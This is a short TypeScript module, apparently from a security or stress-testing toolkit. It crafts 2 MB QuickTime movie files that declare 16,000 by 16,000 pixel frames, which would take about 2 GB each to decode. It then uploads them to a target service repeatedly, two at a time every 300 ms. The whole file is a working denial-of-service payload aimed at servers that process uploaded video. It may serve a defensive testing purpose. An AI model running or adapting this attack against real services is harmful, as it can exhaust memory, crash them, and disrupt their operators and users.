import { box, mdat, moov, mov, trak } from '../../../media/boxes.ts'
import { keepDoing, type Target, upload } from '../attack.ts'

/** Films of 2 MB whose pictures would take 2 GB each to decode, in a codec that is taken and in one that is not. */
const FILMS = ['avc1', 'png '].map((format) => {
  const movie = moov(trak({ size: [16_000, 16_000], format }))
  return Uint8Array.from(Buffer.concat([mov, mdat, movie, box('free', Buffer.alloc(2_000_000))]))
})

export function vastPictures(target: Target): Promise<void> {
  return keepDoing(target, { atOnce: 2, pauseMs: 300 }, (turn) =>
    upload(target, FILMS[turn % FILMS.length] ?? new Uint8Array(), 'vast.mov'),
  )
}
